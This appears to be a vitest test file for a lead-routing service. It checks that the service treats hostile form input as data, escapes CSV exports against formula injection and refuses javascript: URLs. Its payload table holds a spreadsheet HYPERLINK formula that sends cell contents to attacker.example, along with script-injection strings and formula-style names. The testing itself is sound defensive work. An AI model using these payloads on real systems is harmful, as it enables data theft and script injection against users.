import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openService, POLICY, REPS, type TestService } from './open-service.ts';

/** What a form may be filled in with, and what each of them is to a program that believes it. */
const HOSTILE = {
  formula: '=HYPERLINK("https://attacker.example?"&A1,"x")',
  html: '<img src=x onerror=alert(1)>"><script>alert(1)</script>',
  mention: '<!channel> <@U1> <https://attacker.example|Open in CRM>',
  log: 'x\r\n{"level":60,"msg":"forged"}',
  direction: '\u202eevil',
};

let service: TestService;
beforeAll(async () => {
  service = await openService();
  const names = ['=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', '＝1', '\n=1', 'Ann;=cmd()', 'Ann\t@x'];
  const reps = names.map((name, n) => ({ id: `rep${n}`, name, email: `rep${n}@example.com` }));
  await service
    .api('put', '/api/v1/reps')
    .send([...REPS, ...reps])
    .expect(200);
  const pool = { ...POLICY.pools[0], members: reps.map(({ id }) => ({ rep: id })) };
  await service
    .api('put', '/api/v1/policy')
    .send({ ...POLICY, pools: [pool, POLICY.pools[1]] })
    .expect(200);
});
afterAll(() => service.close());

const lead = (text: string) => ({
  fields: { country: 'US' },
  person: { name: text, company: text, email: text, phone: text, message: text },
  source: text,
});

test.each(Object.entries(HOSTILE))('a lead full of %s is routed, and shown as data', async (_what, text) => {
  const decided = await service.api('post', '/api/v1/leads').send(lead(text)).expect(200);
  const page = await service.api('get', `/api/v1/decisions/${decided.body.id}/explanation`).expect(200);
  expect(page.headers['content-type']).toMatch(/^application\/json/);
  expect(page.headers['x-content-type-options']).toBe('nosniff');
  expect(page.body.person.name).toBe(text);
});

test('an address that a browser would run is refused, of a lead and of a connection', async () => {
  for (const url of ['javascript:alert(1)', 'data:text/html,x', 'JAVASCRIPT:alert(1)']) {
    const refused = await service
      .api('post', '/api/v1/leads')
      .send({ fields: { country: 'US' }, person: { url } })
      .expect(400);
    expect(refused.body.errors[0].field).toBe('/person/url');
    const connection = await service
      .api('post', '/api/v1/connections')
      .send({
        vendor: 'hubspot',
        externalId: '77',
        name: 'x',
        scopes: [],
        tokens: { accessToken: 'a' },
        settings: { url },
      })
      .expect(400);
    expect(connection.body.errors[0].field).toBe('/settings/url');
  }
});

test('no text of a table begins as a formula, and its numbers stay numbers', async () => {
  for (let n = 0; n < 3; n++) await service.api('post', '/api/v1/leads').send(lead('x')).expect(200);
  const table = await service.api('get', '/api/v1/pools/all/fairness.csv').expect(200);
  const rows = parse(table.text, { columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(9);
  for (const row of rows) {
    expect(row.name).toMatch(/^('[=+\-@\t\n＝]|Ann)/u);
    // Where a spreadsheet takes semicolons or tabs for what parts cells, what stands behind one is a cell.
    for (const cell of row.name!.split(/[;\t\n]/)) expect(cell).not.toMatch(/^[=+\-@＝]/u);
    for (const column of ['owed', 'received', 'lag']) expect(row[column]).toMatch(/^-?\d+$/);
  }
  expect(rows.some(({ lag }) => lag?.startsWith('-'))).toBe(true);
});

test('what is refused is told without what it held', async () => {
  const refused = await service
    .api('get', `/api/v1/${encodeURIComponent('<script>alert(1)</script>')}`)
    .expect(404);
  expect(refused.headers['content-type']).toBe('application/problem+json');
  expect(refused.headers['content-security-policy']).toContain("script-src 'self'");
});
